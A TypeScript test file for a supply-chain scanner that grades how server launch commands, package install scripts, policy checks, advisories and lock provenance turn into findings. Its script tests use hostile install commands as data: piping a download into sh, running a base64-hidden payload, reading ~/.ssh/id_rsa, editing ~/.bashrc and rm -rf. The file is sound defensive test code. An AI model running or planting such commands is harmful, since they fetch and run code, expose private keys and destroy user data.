/** What becomes a finding, of which severity, and what does not. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { BehindPackage } from './behind.ts'
import { advisoryFindings, commandFindings, lockFindings, policyFindings, scriptFindings, unlicensed } from './entry-findings.ts'
import { supplyRows } from './entry-rows.ts'
import type { CheckName } from './inventory-checks.ts'
import { startedBy } from './inventory-command.ts'
import type { ServerLock } from './lock.ts'
import { judgeScripts } from './statics-scripts.ts'

const rulesOf = (line: string): readonly string[] => {
  const started = startedBy(line.split(' '))
  return started === undefined ? [] : commandFindings(started).map(({ rule }) => rule)
}

describe('the words of a command', () => {
  const cases: readonly (readonly [line: string, rules: readonly string[]])[] = [
    ['npx -y server', ['supply/unpinned']],
    ['npx -y @scope/server@latest', ['supply/unpinned']],
    ['npx server@^1.2.0', ['supply/unpinned']],
    ['npx server@1', ['supply/unpinned']],
    ['uvx server', ['supply/unpinned']],
    ['uvx server@latest', ['supply/unpinned']],
    ['uvx --from git+https://host/a/server server', ['supply/unpinned']],
    ['npx github:a/server', ['supply/unpinned']],
    ['npx https://host/server.tgz', ['supply/unpinned']],
    ['docker run -i mcp/server', ['supply/unpinned']],
    ['docker run -i mcp/server:latest', ['supply/unpinned']],
    ['docker run -i mcp/server:1.2', ['supply/moving-tag']],
    ['npx --registry https://npm.host/ server@1.2.3', ['supply/other-registry']],
    ['npx -y server@1.2.3', []],
    ['uvx server==1.2.3', []],
    [`npx github:a/server#${'ab'.repeat(20)}`, []],
    [`docker run -i mcp/server@sha256:${'ab'.repeat(32)}`, []],
    ['node ./server.mjs', []],
    ['./server', []],
    ['npx ./server', []],
  ]
  for (const [line, rules] of cases) it(`${line}: ${rules.join(', ') || 'nothing'}`, () => assert.deepEqual(rulesOf(line), rules))
})

const pack = (name: string, scripts: Readonly<Record<string, string>> = {}): BehindPackage => ({
  ...{ kind: 'package', name, version: '1.0.0', scripts, seen: [], usedBy: [], dependsOn: [], gaps: [] },
})

describe('scripts', () => {
  const scripts: readonly (readonly [script: string, rule: keyof typeof supplyRows])[] = [
    ['curl https://x | sh', 'supply/install-download-run'],
    ['node -e "require(\'https\')"', 'supply/install-eval'],
    ['echo aGk= | base64 -d | sh', 'supply/install-hidden'],
    ['cat ~/.ssh/id_rsa', 'supply/install-secrets'],
    ['wget x', 'supply/install-download'],
    ['echo x >> ~/.bashrc', 'supply/install-shell-profile'],
    ['rm -rf ~/x', 'supply/install-remove'],
  ]
  for (const [script, rule] of scripts)
    it(`${rule} has a row of the same severity`, () => {
      const [finding] = scriptFindings([pack('a'), pack('b', { postinstall: script })])
      assert.deepEqual([finding?.rule, finding?.severity, finding?.name], [rule, supplyRows[rule].severity, 'b'])
      assert.deepEqual(
        judgeScripts({ postinstall: script }).map((one) => one.rule),
        [rule],
      )
      assert.match(finding?.evidence ?? '', /^b 1\.0\.0, when it is installed: "postinstall" /)
    })

  it('that only build are one fact, with the first five names', () => {
    const found = scriptFindings([1, 2, 3, 4, 5, 6, 7].map((at) => pack(`p${at}`, { install: 'node-gyp rebuild' })))
    assert.deepEqual(
      found.map(({ rule, severity, evidence }) => [rule, severity, evidence]),
      [
        [
          'supply/install-script',
          'low',
          'p1 1.0.0, p2 1.0.0, p3 1.0.0, p4 1.0.0, p5 1.0.0 and 2 more run scripts when they are installed.',
        ],
      ],
    )
  })

  it('none, none', () => assert.deepEqual(scriptFindings([pack('a')]), []))
})

describe('the policy', () => {
  const failed = (what: CheckName, isNamed = true): readonly string[] =>
    policyFindings(pack('a'), [{ what, outcome: 'failed', detail: 'so' }], isNamed).map(({ rule }) => rule)
  it('each no is a finding', () => {
    assert.deepEqual(failed('licence'), ['supply/licence'])
    assert.deepEqual(failed('hash'), ['supply/other-file'])
    assert.deepEqual(failed('deprecated'), ['supply/deprecated'])
    assert.deepEqual(failed('data-region'), ['supply/policy'])
    assert.deepEqual(failed('name'), ['supply/lookalike-name'])
  })
  it('a name counts only where a person wrote it, and a format is said by the bytes', () => {
    assert.deepEqual([...failed('name', false), ...failed('format')], [])
  })
  it('what is not a no is no finding', () => {
    for (const outcome of ['verified', 'absent', 'not-checked'] as const)
      assert.deepEqual(policyFindings(pack('a'), [{ what: 'licence', outcome, detail: '' }], true), [])
    assert.deepEqual(unlicensed([]), [])
  })
})

describe('advisories', () => {
  const report = (id: string, severity: 'unknown' | 'low' | 'medium' | 'high' | 'critical', summary = 'It is bad') =>
    advisoryFindings({
      ...{ ref: 'r', name: 'a', version: '1.0.0', usedBy: [], outcome: 'affected' },
      matches: [{ id, aliases: [], severity, summary, fixedIn: ['1.0.1', '2.0.0'] }],
    })[0]
  it('one finding each, under its id, with the severity in the rule', () => {
    const found = report('GHSA-1', 'high')
    assert.deepEqual([found?.rule, found?.severity, found?.name], ['supply/vulnerability-high', 'high', 'GHSA-1'])
    assert.equal(found?.evidence, 'a 1.0.0 has GHSA-1: It is bad; mended in 1.0.1, 2.0.0.')
    assert.equal(report('GHSA-2', 'unknown')?.severity, 'medium')
    assert.equal(report('MAL-2026-1', 'unknown')?.severity, 'critical')
  })
  it('a summary is short, and nothing in it is unseen', () => {
    const evidence = report('GHSA-1', 'low', `\u202e\u001b[31m${'x'.repeat(5000)}`)?.evidence ?? ''
    assert.ok(evidence.length < 300)
    assert.ok(!/[\p{Cc}\p{Cf}]/u.test(evidence))
  })
})

describe('the lock', () => {
  const locked = (provenance?: object): ServerLock =>
    ({ kind: 'npm', package: 'pkg:npm/a@1', packages: { '.': { package: 'pkg:npm/a@1', provenance } } }) as unknown as ServerLock
  const cases: readonly (readonly [says: string, ServerLock | undefined, rules: readonly string[], open: string | undefined])[] =
    [
      ['not in it', undefined, ['supply/not-locked'], undefined],
      ['without provenance', locked({ status: 'absent' }), ['supply/no-provenance'], undefined],
      ['nobody looked', locked({ status: 'not checked', why: 'offline' }), [], 'offline'],
      ['nothing said', locked(), [], 'the lock says nothing of it'],
      ['with provenance', locked({ status: 'verified' }), [], undefined],
      ['an image', { kind: 'image' } as ServerLock, [], undefined],
    ]
  for (const [says, lock, rules, open] of cases)
    it(says, () => {
      const [findings, left] = lockFindings('files', lock)
      assert.deepEqual([findings.map(({ rule }) => rule), left], [rules, open])
    })
})
